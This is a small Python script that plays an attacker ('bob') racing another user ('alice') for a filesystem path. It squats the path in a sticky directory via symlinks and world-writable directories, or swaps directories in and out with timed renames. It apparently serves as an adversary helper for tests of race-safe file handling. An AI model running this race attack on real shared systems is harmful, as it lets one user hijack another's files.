"""bob in a race: arguments are how, the place that alice will use, and a directory of his with everything in it."""

import os
import sys
import time

how, at, evil = sys.argv[1:]
aside = f"{at}.aside"


def quietly(verb, *paths):
    try:
        verb(*paths)
    except OSError:
        pass


print("at work", flush=True)
parent = os.getppid()
while os.getppid() == parent:
    if how == "squat":
        # whatever is possible in a sticky directory: be there first, as one thing or another
        quietly(os.symlink, evil, at)
        quietly(os.unlink, at)
        quietly(os.mkdir, at)
        quietly(os.chmod, at, 0o777)
        quietly(os.rmdir, at)
        quietly(os.rename, at, aside)
    else:
        # long enough for alice to get ready with what is hers, short enough to be there when she uses it
        time.sleep(0.02)
        quietly(os.rename, at, aside)
        quietly(os.rename, evil, at)
        time.sleep(0.005)
        quietly(os.rename, at, evil)
        quietly(os.rename, aside, at)
